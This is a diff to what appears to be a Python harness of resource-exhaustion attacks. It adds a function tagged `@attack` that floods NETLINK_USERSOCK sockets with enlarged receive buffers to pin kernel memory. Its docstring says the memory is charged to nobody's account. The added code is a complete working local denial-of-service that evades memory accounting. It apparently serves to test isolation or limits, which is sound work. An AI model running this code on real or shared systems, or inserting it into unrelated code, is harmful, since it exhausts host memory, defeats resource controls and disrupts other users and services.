@@ -76,3 +76,20 @@ def fill_sockets(mib: str) -> None:
         refusals += total - before < 1 << 16
     print(total >> 20, "MiB", flush=True)
     time.sleep(600)
+
+
+@attack
+def fill_netlink(mib: str) -> None:
+    """The same by NETLINK_USERSOCK, which anybody may send by. It is on nobody's account."""
+    held, total = [], 0
+    sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)
+    sender.setblocking(False)
+    while total < int(mib) << 20:
+        held.append(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2))
+        held[-1].bind((0, 0))
+        held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
+        with contextlib.suppress(BlockingIOError):
+            while True:
+                total += sender.sendto(bytes(1 << 16), held[-1].getsockname())
+    print(total >> 20, "MiB", flush=True)
+    time.sleep(600)
